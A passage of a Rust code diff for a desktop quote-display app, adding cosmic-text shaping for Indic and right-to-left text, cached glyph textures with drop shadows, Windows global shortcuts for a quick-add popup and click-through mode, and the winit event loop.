+        &mut cosmic_text::FontSystem,
+        &mut cosmic_text::SwashCache,
+        &mut HashMap<u64, egui::TextureHandle>,
+    )>,
+    text: &str,
+    size: f32,
+    color: Color32,
+) -> egui::Response {
+    if needs_shaping(text) {
+        if let Some((ref mut fs, ref mut sc, ref mut tc)) = shaper {
+            if let Some((tex_id, tex_size)) =
+                render_shaped_text(ui.ctx(), fs, sc, text, size, color, tc)
+            {
+                return ui.add(
+                    egui::Image::new(egui::load::SizedTexture::new(tex_id, tex_size))
+                        .sense(Sense::click()),
+                );
+            }
+        }
+    }
+    ui.add(
+        egui::Label::new(RichText::new(text).color(color).size(size))
+            .truncate()
+            .sense(Sense::click()),
+    )
+}
+
+/// A display-only quote line (the translation): shaped through cosmic-text
+/// when its script needs it, a plain label otherwise, shadowed either way
+fn quote_text_line(
+    ui: &mut egui::Ui,
+    shaper: &mut Option<(
+        &mut cosmic_text::FontSystem,
+        &mut cosmic_text::SwashCache,
+        &mut HashMap<u64, egui::TextureHandle>,
+    )>,
+    text: &str,
+    size: f32,
+    color: Color32,
+    shadow: Option<&ShadowStyle>,
+) -> egui::Response {
+    if needs_shaping(text) {
+        if let Some((ref mut fs, ref mut sc, ref mut tc)) = shaper {
+            let ctx = ui.ctx().clone();
+            if let Some((tex_id, tex_size)) =
+                render_shaped_text(&ctx, fs, sc, text, size, color, tc)
+            {
+                let shadow = shadow.and_then(|shadow| {
+                    render_shaped_shadow(&ctx, fs, sc, text, size, shadow.color, tc)
+                        .map(|(id, _)| (id, shadow))
+                });
+                return add_shaped_text_image(ui, tex_id, tex_size, shadow, Sense::hover());
+            }
+        }
+    }
+    shadowed_label(
+        ui,
+        RichText::new(text).color(color).size(size),
+        shadow,
+        Sense::hover(),
+    )
+}
+
+/// Like `render_shaped_text`, but every glyph (emoji included) is a solid
+/// `color` silhouette, for drop shadows
+fn render_shaped_shadow(
+    ctx: &Context,
+    font_system: &mut cosmic_text::FontSystem,
+    swash_cache: &mut cosmic_text::SwashCache,
+    text: &str,
+    font_size: f32,
+    color: Color32,
+    tex_cache: &mut HashMap<u64, egui::TextureHandle>,
+) -> Option<(egui::TextureId, Vec2)> {
+    render_shaped_texture(
+        ctx,
+        font_system,
+        swash_cache,
+        text,
+        font_size,
+        color,
+        true,
+        0.0,
+        tex_cache,
+    )
+}
+
+/// Cache key for a shaped texture: the text and everything that changes
+/// how it is laid out or drawn, including the scale it was rasterized at
+fn shaped_texture_key(
+    text: &str,
+    font_size: f32,
+    color: Color32,
+    silhouette: bool,
+    letter_spacing: f32,
+    direction: TextDirection,
+    pixels_per_point: f32,
+) -> u64 {
+    use std::hash::{Hash, Hasher};
+    let mut hasher = std::collections::hash_map::DefaultHasher::new();
+    text.hash(&mut hasher);
+    font_size.to_bits().hash(&mut hasher);
+    color.to_array().hash(&mut hasher);
+    silhouette.hash(&mut hasher);
+    letter_spacing.to_bits().hash(&mut hasher);
+    direction.hash(&mut hasher);
+    pixels_per_point.to_bits().hash(&mut hasher);
+    hasher.finish()
+}
+
+/// Shared body of `render_shaped_text`/`render_shaped_shadow`, with extra
+/// `letter_spacing` (points) added after every grapheme cluster. The text is
+/// rasterized at the screen's pixels-per-point so it stays sharp on scaled
+/// displays; the returned size is in points.
+#[allow(clippy::too_many_arguments)]
+fn render_shaped_texture(
+    ctx: &Context,
+    font_system: &mut cosmic_text::FontSystem,
+    swash_cache: &mut cosmic_text::SwashCache,
+    text: &str,
+    font_size: f32,
+    color: Color32,
+    silhouette: bool,
+    letter_spacing: f32,
+    tex_cache: &mut HashMap<u64, egui::TextureHandle>,
+) -> Option<(egui::TextureId, Vec2)> {
+    if text.is_empty() {
+        return None;
+    }
+
+    let direction = base_direction(text);
+    let pixels_per_point = ctx.pixels_per_point();
+    let cache_key = shaped_texture_key(
+        text,
+        font_size,
+        color,
+        silhouette,
+        letter_spacing,
+        direction,
+        pixels_per_point,
+    );
+
+    // Return cached texture if available
+    if let Some(handle) = tex_cache.get(&cache_key) {
+        let size = handle.size();
+        return Some((
+            handle.id(),
+            Vec2::new(size[0] as f32, size[1] as f32) / pixels_per_point,
+        ));
+    }
+
+    // Shape and draw in physical pixels
+    let font_size = font_size * pixels_per_point;
+    let letter_spacing = letter_spacing * pixels_per_point;
+
+    // Create cosmic-text buffer for shaping
+    let metrics = cosmic_text::Metrics::new(font_size, font_size * 1.3);
+    let mut buffer = cosmic_text::Buffer::new(font_system, metrics);
+
+    // Set a wide width so it doesn't wrap
+    buffer.set_size(font_system, Some(2000.0 * pixels_per_point), None);
+
+    let attrs = cosmic_text::Attrs::new().family(cosmic_text::Family::Name("Nirmala UI"));
+    buffer.set_text(font_system, text, attrs, cosmic_text::Shaping::Advanced);
+    buffer.shape_until_scroll(font_system, false);
+
+    // Extra advance before each glyph of a run: one step per new cluster, so
+    // combining marks and conjuncts stay together. RTL runs are left as they
+    // are; their glyphs don't come in left-to-right order.
+    let spacing_offsets = |run: &cosmic_text::LayoutRun| -> Vec<f32> {
+        let mut offset = 0.0;
+        let mut cluster = None;
+        run.glyphs
+            .iter()
+            .map(|glyph| {
+                if !run.rtl && cluster.is_some_and(|start| start != glyph.start) {
+                    offset += letter_spacing;
+                }
+                cluster = Some(glyph.start);
+                offset
+            })
+            .collect()
+    };
+
+    // Calculate dimensions from layout runs
+    let measure = |buffer: &cosmic_text::Buffer| {
+        buffer
+            .layout_runs()
+            .fold((0.0f32, 0.0f32, false), |(w, h, rtl), run| {
+                let extra = spacing_offsets(&run).last().copied().unwrap_or(0.0);
+                (
+                    w.max(run.line_w + extra),
+                    h + run.line_height,
+                    rtl || run.rtl,
+                )
+            })
+    };
+    let (max_width, mut total_height, has_rtl) = measure(&buffer);
+
+    if max_width <= 0.0 || total_height <= 0.0 {
+        return None;
+    }
+
+    // cosmic-text runs the bidi algorithm and aligns RTL lines to the right
+    // edge of the layout width; re-layout at the measured width so those lines
+    // end up right-aligned inside the texture instead of 2000px away
+    if has_rtl || direction == TextDirection::Rtl {
+        buffer.set_size(font_system, Some(max_width.ceil()), None);
+        buffer.shape_until_scroll(font_system, false);
+        total_height = measure(&buffer).1;
+    }
+
+    let width = (max_width.ceil() as usize).max(1);
+    let height = (total_height.ceil() as usize).max(1);
+
+    // Create pixel buffer (RGBA)
+    let mut pixels = vec![Color32::TRANSPARENT; width * height];
+
+    // Draw glyphs using swash cache. Silhouettes draw opaque and apply the
+    // shadow alpha per pixel, so color glyphs get the same treatment as outlines
+    let text_color = if silhouette {
+        cosmic_text::Color::rgb(color.r(), color.g(), color.b())
+    } else {
+        cosmic_text::Color::rgba(color.r(), color.g(), color.b(), color.a())
+    };
+
+    let mut put = |x: i32, y: i32, drawn_color: cosmic_text::Color| {
+        // drawn_color is the blended color for this pixel
+        let px = x as usize;
+        let py = y as usize;
+        if px < width && py < height && x >= 0 && y >= 0 {
+            let alpha = drawn_color.a();
+            if alpha > 0 {
+                let idx = py * width + px;
+                // Glyph pixels (mask or color) come unpremultiplied
+                pixels[idx] = if silhouette {
+                    let a = (alpha as u16 * color.a() as u16 / 255) as u8;
+                    Color32::from_rgba_unmultiplied(color.r(), color.g(), color.b(), a)
+                } else {
+                    Color32::from_rgba_unmultiplied(
+                        drawn_color.r(),
+                        drawn_color.g(),
+                        drawn_color.b(),
+                        alpha,
+                    )
+                };
+            }
+        }
+    };
+
+    if letter_spacing == 0.0 {
+        buffer.draw(
+            font_system,
+            swash_cache,
+            text_color,
+            |x, y, _w, _h, drawn_color| put(x, y, drawn_color),
+        );
+    } else {
+        // What `Buffer::draw` does, with each glyph pushed right by its spacing
+        for run in buffer.layout_runs() {
+            let offsets = spacing_offsets(&run);
+            for (glyph, offset) in run.glyphs.iter().zip(offsets) {
+                let physical = glyph.physical((offset, 0.0), 1.0);
+                let glyph_color = glyph.color_opt.unwrap_or(text_color);
+                swash_cache.with_pixels(
+                    font_system,
+                    physical.cache_key,
+                    glyph_color,
+                    |x, y, drawn_color| {
+                        put(
+                            physical.x + x,
+                            run.line_y as i32 + physical.y + y,
+                            drawn_color,
+                        )
+                    },
+                );
+            }
+        }
+    }
+
+    // Create egui texture
+    let image = egui::ColorImage {
+        size: [width, height],
+        pixels,
+    };
+
+    let texture = ctx.load_texture(
+        format!("shaped_{}", cache_key),
+        image,
+        egui::TextureOptions::LINEAR,
+    );
+
+    let size = Vec2::new(width as f32, height as f32) / pixels_per_point;
+    let tex_id = texture.id();
+    tex_cache.insert(cache_key, texture);
+
+    Some((tex_id, size))
+}
+
+// =============================================================================
+// QUICK ADD POPUP
+// =============================================================================
+
+/// Presses of the quick-add and click-through shortcuts, registered system
+/// wide. Windows only delivers WM_HOTKEY as a thread message, which winit's
+/// loop drops, so a thread of our own registers them, pumps messages, and
+/// wakes the event loop.
+mod global_hotkey {
+    use std::sync::mpsc::{self, Receiver};
+    use winit::event_loop::EventLoopProxy;
+
+    #[derive(Debug, Clone, Copy, PartialEq, Eq)]
+    pub enum Hotkey {
+        QuickAdd,
+        ClickThrough,
+    }
+
+    #[derive(Debug)]
+    pub struct HotkeyListener {
+        pub presses: Receiver<Hotkey>,
+        // The shortcuts Windows actually gave us; another app may hold one
+        pub registered: Vec<Hotkey>,
+    }
+
+    impl HotkeyListener {
+        pub fn has(&self, hotkey: Hotkey) -> bool {
+            self.registered.contains(&hotkey)
+        }
+    }
+
+    #[cfg(windows)]
+    pub fn register(proxy: EventLoopProxy<()>) -> Option<HotkeyListener> {
+        use windows::Win32::Foundation::HWND;
+        use windows::Win32::UI::Input::KeyboardAndMouse::{
+            RegisterHotKey, MOD_ALT, MOD_CONTROL, MOD_NOREPEAT,
+        };
+        use windows::Win32::UI::WindowsAndMessaging::{GetMessageW, MSG, WM_HOTKEY};
+
+        let (tx, presses) = mpsc::channel();
+        // The thread reports back which registrations took
+        let (done_tx, done) = mpsc::channel();
+        std::thread::Builder::new()
+            .name("global-hotkeys".into())
+            .spawn(move || unsafe {
+                // Ctrl+Alt+Q and Ctrl+Alt+T (QUICK_ADD_HOTKEY_LABEL,
+                // CLICK_THROUGH_HOTKEY_LABEL); the hotkey id is index + 1
+                let keys = [
+                    (Hotkey::QuickAdd, b'Q', "Quick-add"),
+                    (Hotkey::ClickThrough, b'T', "Click-through"),
+                ];
+                let mut registered = Vec::new();
+                for (i, (hotkey, key, name)) in keys.iter().enumerate() {
+                    match RegisterHotKey(
+                        HWND::default(),
+                        i as i32 + 1,
+                        MOD_CONTROL | MOD_ALT | MOD_NOREPEAT,
+                        u32::from(*key),
+                    ) {
+                        Ok(()) => registered.push(*hotkey),
+                        Err(e) => {
+                            super::log_to_file(&format!("{} shortcut unavailable: {}", name, e))
+                        }
+                    }
+                }
+                let any = !registered.is_empty();
+                let _ = done_tx.send(registered);
+                if !any {
+                    return;
+                }
+                let mut msg = MSG::default();
+                while GetMessageW(&mut msg, HWND::default(), 0, 0).as_bool() {
+                    if msg.message != WM_HOTKEY {
+                        continue;
+                    }
+                    let Some((hotkey, ..)) = msg.wParam.0.checked_sub(1).and_then(|i| keys.get(i))
+                    else {
+                        continue;
+                    };
+                    if tx.send(*hotkey).is_err() || proxy.send_event(()).is_err() {
+                        break;
+                    }
+                }
+            })
+            .ok()?;
+        let registered = done.recv().ok().filter(|keys| !keys.is_empty())?;
+        Some(HotkeyListener {
+            presses,
+            registered,
+        })
+    }
+
+    #[cfg(not(windows))]
+    pub fn register(_proxy: EventLoopProxy<()>) -> Option<HotkeyListener> {
+        // No global shortcut API here; the popup is simply never summoned and
+        // click-through is never applied, since nothing could turn it off
+        None
+    }
+}
+
+/// What the popup's frame asked for
+enum QuickAddOutcome {
+    Add(Quote),
+    Cancel,
+}
+
+/// Small always-on-top window with just the main/sub inputs. It has its own
+/// renderer and egui context (same setup as the main window), is created on
+/// first use and hidden, not destroyed, when done.
+struct QuickAdd {
+    window: &'static Window,
+    render_state: WgpuRenderState<'static>,
+    egui_ctx: Context,
+    egui_state: egui_winit::State,
+    main_text: String,
+    sub_text: String,
+    // Focus the main input on the first frame after being shown
+    focus_pending: bool,
+}
+
+impl QuickAdd {
+    fn create(event_loop: &ActiveEventLoop, near: &Window, state: &AppState) -> Option<Self> {
+        let mut attributes = Window::default_attributes()
+            .with_title("Quick Add")
+            .with_inner_size(LogicalSize::new(
+                QUICK_ADD_SIZE.0 as f64,
+                QUICK_ADD_SIZE.1 as f64,
+            ))
+            .with_decorations(false)
+            .with_resizable(false)
+            .with_window_level(winit::window::WindowLevel::AlwaysOnTop)
+            .with_visible(false);
+        // Centered on the monitor the main window is on (even when minimized)
+        if let Some(monitor) = near.current_monitor() {
+            let scale = monitor.scale_factor();
+            let area = monitor.size();
+            let origin = monitor.position();
+            let w = (QUICK_ADD_SIZE.0 as f64 * scale) as i32;
+            let h = (QUICK_ADD_SIZE.1 as f64 * scale) as i32;
+            attributes = attributes.with_position(PhysicalPosition::new(
+                origin.x + (area.width as i32 - w) / 2,
+                origin.y + (area.height as i32 - h) / 3,
+            ));
+        }
+        #[cfg(windows)]
+        {
+            use winit::platform::windows::WindowAttributesExtWindows;
+            attributes = attributes.with_skip_taskbar(true);
+        }
+
+        let window: &'static Window = match event_loop.create_window(attributes) {
+            Ok(window) => Box::leak(Box::new(window)),
+            Err(e) => {
+                log_to_file(&format!("Failed to create quick-add window: {}", e));
+                return None;
+            }
+        };
+        let render_state = match pollster::block_on(WgpuRenderState::new(window)) {
+            Ok(render_state) => render_state,
+            Err(e) => {
+                log_to_file(&format!("Quick-add render state failed: {}", e));
+                return None;
+            }
+        };
+        let egui_ctx = Context::default();
+        egui_ctx.set_style(ui_style(state.ui_is_light(), state.theme.accent_primary));
+        egui_ctx.set_zoom_factor(state.ui_scale);
+        if state.safe_mode.is_none() {
+            setup_fonts(&egui_ctx);
+        }
+        let egui_state = egui_winit::State::new(
+            egui_ctx.clone(),
+            egui::ViewportId::ROOT,
+            window,
+            None,
+            None,
+            None,
+        );
+        Some(Self {
+            window,
+            render_state,
+            egui_ctx,
+            egui_state,
+            main_text: String::new(),
+            sub_text: String::new(),
+            focus_pending: false,
+        })
+    }
+
+    fn show(&mut self) {
+        self.focus_pending = true;
+        self.window.set_visible(true);
+        self.window.focus_window();
+        self.window.request_redraw();
+    }
+
+    /// Hide and forget whatever was typed
+    fn hide(&mut self) {
+        self.window.set_visible(false);
+        self.main_text.clear();
+        self.sub_text.clear();
+    }
+
+    fn render(&mut self, state: &AppState) -> Option<QuickAddOutcome> {
+        let raw_input = self.egui_state.take_egui_input(self.window);
+        let mut outcome = None;
+        let full_output = self.egui_ctx.run(raw_input, |ctx| {
+            outcome = render_quick_add(
+                ctx,
+                &mut self.main_text,
+                &mut self.sub_text,
+                std::mem::take(&mut self.focus_pending),
+                state,
+            );
+        });
+        // Follow-up frames egui asks for right away (focus, layout settling)
+        let repaint_now = full_output
+            .viewport_output
+            .get(&egui::ViewportId::ROOT)
+            .is_some_and(|v| v.repaint_delay.is_zero());
+        if repaint_now {
+            self.window.request_redraw();
+        }
+        self.egui_state
+            .handle_platform_output(self.window, full_output.platform_output);
+        let paint_jobs = self
+            .egui_ctx
+            .tessellate(full_output.shapes, full_output.pixels_per_point);
+        self.render_state.paint(
+            &paint_jobs,
+            &full_output.textures_delta,
+            full_output.pixels_per_point,
+            CANVAS_BG,
+            None,
+        );
+        outcome
+    }
+}
+
+/// The popup's contents: two inputs and Add. Ctrl+Enter adds, Esc cancels.
+fn render_quick_add(
+    ctx: &Context,
+    main_text: &mut String,
+    sub_text: &mut String,
+    focus: bool,
+    state: &AppState,
+) -> Option<QuickAddOutcome> {
+    let mut outcome = None;
+    let accent = state.theme.accent_primary;
+    egui::CentralPanel::default()
+        .frame(
+            Frame::none()
+                .fill(CANVAS_BG)
+                .stroke(Stroke::new(1.0, accent.gamma_multiply(0.6)))
+                .inner_margin(egui::Margin::same(10.0)),
+        )
+        .show(ctx, |ui| {
+            if ui.input(|i| i.key_pressed(egui::Key::Escape)) {
+                outcome = Some(QuickAddOutcome::Cancel);
+            }
+            let submit =
+                ui.input_mut(|i| i.consume_key(egui::Modifiers::COMMAND, egui::Key::Enter));
+
+            ui.label(RichText::new("QUICK ADD").color(accent).strong().size(11.0));
+            ui.add_space(4.0);
+            let main = ui.add(
+                egui::TextEdit::multiline(main_text)
+                    .hint_text("Main text... (Ctrl+Enter to add, Esc to cancel)")
+                    .desired_rows(2)
+                    .desired_width(ui.available_width()),
+            );
+            if focus {
+                main.request_focus();
+            }
+            ui.add(
+                egui::TextEdit::singleline(sub_text)
+                    .hint_text("Supporting text...")
+                    .desired_width(ui.available_width()),
+            );
+
+            let issue =
+                validate_quote_input(main_text, sub_text, state.quote_max_chars, &state.quotes);
+            let blocked = issue.is_some_and(InputIssue::blocks_submit);
+            ui.add_space(6.0);
+            ui.horizontal(|ui| {
+                let add = ui.add_enabled(!blocked, egui::Button::new("+ Add"));
+                if ui.button("Cancel").clicked() {
+                    outcome = Some(QuickAddOutcome::Cancel);
+                }
+                match issue {
+                    Some(InputIssue::TooLong) => {
+                        ui.label(RichText::new("Too long").color(NEON_ROSE).size(10.5));
+                    }
+                    Some(InputIssue::Duplicate) => {
+                        ui.label(
+                            RichText::new("⚠ Already added")
+                                .color(NEON_SOLAR)
+                                .size(10.5),
+                        );
+                    }
+                    _ => {}
+                }
+                if (add.clicked() || submit) && !blocked {
+                    outcome = Some(QuickAddOutcome::Add(Quote::new(
+                        main_text.trim().to_string(),
+                        sub_text.trim().to_string(),
+                    )));
+                }
+            });
+        });
+    outcome
+}
+
+// Implement winit::application::ApplicationHandler for the new API
+use winit::application::ApplicationHandler;
+use winit::event_loop::{ActiveEventLoop, ControlFlow};
+
+struct AppRunner {
+    window: Option<&'static Window>,
+    render_state: Option<WgpuRenderState<'static>>,
+    app_state: Option<AppState>,
+    egui_ctx: Option<Context>,
+    egui_state: Option<egui_winit::State>,
+    // cosmic-text for proper Bengali/Indic text shaping
+    font_system: Option<cosmic_text::FontSystem>,
+    swash_cache: Option<cosmic_text::SwashCache>,
+    shaped_text_textures: HashMap<u64, egui::TextureHandle>,
+    should_close: bool,
+    // Delay until egui wants its next repaint (from the last frame's output)
+    repaint_delay: Duration,
+    // When about_to_wait should request the next redraw
+    next_frame_at: Instant,
+    // Started with --kiosk: enter presentation mode once the window exists
+    start_presentation: bool,
+    // --seed: replaces the saved seed for this run only
+    seed: Option<u64>,
+    // Single-instance lock and the messages later launches send us
+    instance: Option<single_instance::InstanceGuard>,
+    // Global quick-add shortcut, and its popup once first summoned
+    hotkey: Option<global_hotkey::HotkeyListener>,
+    quick_add: Option<QuickAdd>,
+    // Render state recreations after device errors (see `recover_gpu`)
+    gpu_recoveries: u32,
+    // The reduced-resolution toast was shown (see `PaintOutcome::Downscaled`)
+    low_memory_warned: bool,
+    last_gpu_recovery: Option<Instant>,
+    // Safe mode for this run, and when STARTUP_MARKER was written (None
+    // once the run got past STARTUP_GRACE and it was removed, or when
+    // another copy owns it)
+    safe_mode: bool,
+    startup_marker: Option<Instant>,
+}
+
+impl ApplicationHandler for AppRunner {
+    fn resumed(&mut self, event_loop: &ActiveEventLoop) {
+        if self.window.is_some() {
+            return; // Window already created
+        }
+
+        log_to_file("resumed() called - creating window");
+
+        // Settings first: they decide where the window opens
+        let mut app_state = AppState::load(self.seed);
+        if self.safe_mode {
+            app_state.enter_safe_mode();
+        }
+        let size = app_state.window_size.map_or(DEFAULT_WINDOW_SIZE, |(w, h)| {
+            (w.max(MIN_WINDOW_SIZE.0), h.max(MIN_WINDOW_SIZE.1))
+        });
+        let mut attributes = Window::default_attributes();
+        if let Some(position) = initial_window_position(
+            event_loop,
+            app_state.window_placement,
+            app_state.window_position,
+            size,
+        ) {
+            attributes = attributes.with_position(position);
+        }
+
+        // Create the window through the event loop
+        match event_loop.create_window(
+            attributes
+                .with_title(APP_TITLE)
+                .with_inner_size(LogicalSize::new(size.0 as f64, size.1 as f64))
+                .with_min_inner_size(LogicalSize::new(
+                    MIN_WINDOW_SIZE.0 as f64,
+                    MIN_WINDOW_SIZE.1 as f64,
+                ))
+                .with_decorations(false)
+                .with_resizable(true)
+                .with_transparent(true)
+                .with_window_level(window_level(app_state.always_on_top))
+                .with_visible(false), // Start invisible to avoid white flash
+        ) {
+            Ok(window) => {
+                log_to_file("Window created");
+                let window = Box::leak(Box::new(window));
+
+                eprintln!("Window created successfully");
+                log_to_file("Window created successfully");
+
+                self.window = Some(window);
+
+                log_to_file("Creating render state and egui components");
+
+                match pollster::block_on(WgpuRenderState::new(window)) {
+                    Ok(render_state) => {
+                        let egui_ctx = Context::default();
+                        egui_ctx.set_style(ui_style(
+                            app_state.ui_is_light(),
+                            app_state.theme.accent_primary,
+                        ));
+                        // Ctrl+Plus/Minus are ours (Ctrl+Shift scales the UI)
+                        egui_ctx.options_mut(|o| o.zoom_with_keyboard = false);
+                        egui_ctx.set_zoom_factor(app_state.ui_scale);
+
+                        let egui_state = egui_winit::State::new(
+                            egui_ctx.clone(),
+                            egui::ViewportId::ROOT,
+                            window,
+                            None,
+                            None,
+                            None,
+                        );
+
+                        self.render_state = Some(render_state);
+                        self.app_state = Some(app_state);
+                        self.egui_ctx = Some(egui_ctx.clone());
+                        self.egui_state = Some(egui_state);
+
+                        // Load Bengali fonts for Bangla text support
+                        if !self.safe_mode {
+                            setup_fonts(&egui_ctx);
+                        } else {
+                            setup_icon_font(&egui_ctx);
+                        }
+
+                        // Where "return home" goes until a home is set
+                        if let Some(app_state) = self.app_state.as_mut() {
+                            app_state.startup_position =
+                                window.outer_position().ok().map(|p| (p.x, p.y));
+                        }
+
+                        // Show window now that rendering is ready (prevents white flash)
+                        window.set_visible(true);
+
+                        if self.start_presentation {
+                            if let Some(app_state) = self.app_state.as_mut() {
+                                set_presentation_mode(window, app_state, true);
+                            }
+                        }
+
+                        // Saved in mini mode: shrink to the strip right away
+                        if let Some(app_state) = self.app_state.as_mut() {
+                            if app_state.display_mode == DisplayMode::Mini {
+                                app_state.display_mode = DisplayMode::Normal;
+                                set_display_mode(window, app_state, DisplayMode::Mini);
+                            }
+                        }
+
+                        // Saved in click-through: the window can't be clicked,
+                        // so say right away how to get it back
+                        let has_hotkey = self.has_click_through_hotkey();
+                        if let Some(app_state) = self.app_state.as_mut() {
+                            if app_state.click_through && has_hotkey {
+                                set_click_through(window, app_state, true);
+                            } else {
+                                app_state.click_through = false;
+                            }
+                            if app_state.click_through {
+                                app_state.push_toast(
+                                    ToastKind::Info,
+                                    format!(
+                                        "Click-through is on: the mouse goes to the apps \
+                                         underneath. {} turns it off",
+                                        CLICK_THROUGH_HOTKEY_LABEL
+                                    ),
+                                );
+                            }
+                        }
+
+                        // Bring back the quantum background if it was on last time;
+                        // it counts as on again once the child has stayed up
+                        if let Some(app_state) = self.app_state.as_mut() {
+                            if std::mem::take(&mut app_state.is_3d_bg_active) {
+                                // Starting on battery: leave it for `update_power`
+                                // to bring back on AC
+                                if app_state.power_saving() && app_state.low_power.pause_background
+                                {
+                                    app_state.low_power_active = true;
+                                    app_state.bg_paused_for_power = true;
+                                } else {
+                                    spawn_background(window, app_state);
+                                }
+                                app_state.save();
+                            }
+                        }
+
+                        log_to_file("Render state stored in AppRunner");
+                    }
+                    Err(e) => {
+                        eprintln!("Warning: Render state initialization failed: {}", e);
+                        log_to_file(&format!("Render state initialization failed: {}", e));
+                        event_loop.exit();
+                    }
+                }
+            }
+            Err(e) => {
+                eprintln!("Failed to create window: {}", e);
+                log_to_file(&format!("Failed to create window: {}", e));
+                event_loop.exit();
+            }
+        }
+    }
+
+    fn window_event(
+        &mut self,
+        event_loop: &ActiveEventLoop,
+        window_id: winit::window::WindowId,
+        event: WindowEvent,
+    ) {
+        if self
+            .quick_add
+            .as_ref()
+            .is_some_and(|popup| popup.window.id() == window_id)
+        {
+            self.quick_add_event(event);
+            return;
+        }
+
+        if let Some(window) = self.window {
+            // Forward ALL events to egui so it can respond to mouse/keyboard immediately
+            if let Some(egui_state) = self.egui_state.as_mut() {
+                if egui_state.on_window_event(window, &event).repaint {
+                    window.request_redraw();
+                }
+            }
+
+            match event {
+                WindowEvent::CloseRequested => {
+                    if let Some(app_state) = self.app_state.as_mut() {
+                        app_state.save();
+                    }
+                    event_loop.exit();
+                }
+                WindowEvent::Resized(size) => {
+                    if let Some(render_state) = self.render_state.as_mut() {
+                        render_state.resize(size);
+                    }
+                    // Any other resize (edge drag, snap) reaches the background now
+                    // rather than when it next polls the window rect
+                    let pos = window.outer_position().unwrap_or_default();
+                    announce_background_rect(window, (pos.x, pos.y, size.width, size.height));
+                }
+                WindowEvent::RedrawRequested => {
+                    self.render(window);
+                    self.schedule_next_frame();
+                }
+                _ => {}
+            }
+        }
+
+        // Update interaction time on user input
+        if let Some(app_state) = self.app_state.as_mut() {
+            if matches!(
+                event,
+                WindowEvent::CursorMoved { .. }
+                    | WindowEvent::MouseInput { .. }
+                    | WindowEvent::MouseWheel { .. }
+            ) {
+                app_state.last_pointer_activity = Instant::now();
+            }
+            match event {
+                WindowEvent::CursorMoved { .. }
+                | WindowEvent::MouseInput { .. }
+                | WindowEvent::KeyboardInput { .. } => {
+                    app_state.last_interaction = Instant::now();
+
+                    // Stop all animations on Space key
+                    if let WindowEvent::KeyboardInput { event, .. } = event {
+                        if event.state == winit::event::ElementState::Pressed {
+                            // F3 toggles the frame rate overlay
+                            if event.physical_key
+                                == winit::keyboard::PhysicalKey::Code(winit::keyboard::KeyCode::F3)
+                            {
+                                app_state.fps_overlay = !app_state.fps_overlay;
+                            }
+                            if let winit::keyboard::PhysicalKey::Code(
+                                winit::keyboard::KeyCode::Space,
+                            ) = event.physical_key
+                            {
+                                // Opacity follows on the next frame
+                                app_state.active_animation = AppAnimation::None;
+                            }
+                        }
+                    }
+
+                    // Request repaint to ensure UI updates immediately
+                    if let Some(window) = self.window {
+                        window.request_redraw();
+                    }
+                }
+                WindowEvent::Moved(position) => {
+                    // Further than the shake reaches: the window is being
+                    // dragged, so let go of the cue instead of fighting it
+                    if let Some((x, y)) = app_state.attention_base_pos {
+                        let reach = ATTENTION_SHAKE_PX as i32 + 1;
+                        if (position.x - x).abs() > reach || (position.y - y).abs() > reach {
+                            app_state.cancel_attention_shake();
+                        }
+                    }
+                    if self
+                        .window
+                        .is_some_and(|w| geometry_is_resting(w, app_state))
+                    {
+                        app_state.window_position = Some((position.x, position.y));
+                    }
+                }
+                WindowEvent::Resized(size) => {
+                    if let Some(window) = self.window.filter(|w| {
+                        size.width > 0 && size.height > 0 && geometry_is_resting(w, app_state)
+                    }) {
+                        let size = size.to_logical::<u32>(window.scale_factor());
+                        app_state.window_size = Some((size.width, size.height));
+                    }
+                }
+                WindowEvent::Focused(focused) => {
+                    app_state.window_focused = focused;
+                    if let Some(window) = self.window {
+                        window.request_redraw();
+                    }
+                }
+                _ => {}
+            }
+        }
+    }
+
+    fn about_to_wait(&mut self, event_loop: &ActiveEventLoop) {
+        if self.should_close {
+            // Keep the last window position for "Where it was last"
+            if let Some(app_state) = self.app_state.as_mut() {
+                app_state.save();
+            }
+            event_loop.exit();
+            return;
+        }
+
+        self.handle_instance_messages();
+        self.handle_hotkey(event_loop);
+
+        // Frames are only drawn on RedrawRequested; ask for one once it is due
+        // and sleep until then instead of spinning
+        if let Some(window) = self.window {
+            if Instant::now() >= self.next_frame_at {
+                window.request_redraw();
+            }
+        }
+        event_loop.set_control_flow(ControlFlow::WaitUntil(self.next_frame_at));
+    }
+}
+
+impl AppRunner {
+    /// Decide when the next frame is due: immediately while something is
+    /// animating, when egui asked for a repaint, at the next rotation, and
+    /// otherwise after one idle tick
+    fn schedule_next_frame(&mut self) {
+        let now = Instant::now();
+        let (min_interval, idle_interval) = self
+            .app_state
+            .as_ref()
+            .map_or((MIN_FRAME_INTERVAL, IDLE_FRAME_INTERVAL), |s| {
+                s.frame_intervals()
+            });
+        let mut next = now + idle_interval;
+        if self.repaint_delay < idle_interval {
+            next = next.min(now + self.repaint_delay);
+        }
+        if let Some(app_state) = self.app_state.as_mut() {
+            app_state.record_frame(now);
+            if app_state.needs_continuous_frames() {
+                next = now;
+            }
+            if let Some(due) = app_state.next_rotation_due() {
+                next = next.min(due);
+            }
+        }
+        self.next_frame_at = next.max(now + min_interval);
+    }
+
+    /// Whether the click-through shortcut is registered, the only way out
+    fn has_click_through_hotkey(&self) -> bool {
+        self.hotkey
+            .as_ref()
+            .is_some_and(|hotkey| hotkey.has(global_hotkey::Hotkey::ClickThrough))
+    }
+
+    /// Act on the global shortcuts pressed since the last wake: summon the
+    /// quick-add popup, or flip click-through
+    fn handle_hotkey(&mut self, event_loop: &ActiveEventLoop) {
+        use global_hotkey::Hotkey;
+        let Some(hotkey) = self.hotkey.as_ref() else {
+            return;
+        };
+        let presses: Vec<Hotkey> = hotkey.presses.try_iter().collect();
+        let (Some(window), Some(app_state)) = (self.window, self.app_state.as_mut()) else {
+            return;
+        };
+        // Pressed twice before we woke is no change at all
+        let flips = presses
+            .iter()
+            .filter(|&&k| k == Hotkey::ClickThrough)
+            .count();
+        if flips % 2 == 1 {
+            toggle_click_through(window, app_state, hotkey.has(Hotkey::ClickThrough));
+            window.request_redraw();
+        }
+        if !presses.contains(&Hotkey::QuickAdd) {
+            return;
+        }
+        if self.quick_add.is_none() {
+            self.quick_add = QuickAdd::create(event_loop, window, app_state);
+        }
+        if let Some(popup) = self.quick_add.as_mut() {
+            popup.show();
+        }
+    }
+
+    /// Events for the quick-add popup's window
+    fn quick_add_event(&mut self, event: WindowEvent) {
+        let (Some(popup), Some(app_state)) = (self.quick_add.as_mut(), self.app_state.as_mut())
+        else {
+            return;
+        };
+        if popup
+            .egui_state
+            .on_window_event(popup.window, &event)
+            .repaint
+        {
+            popup.window.request_redraw();
+        }
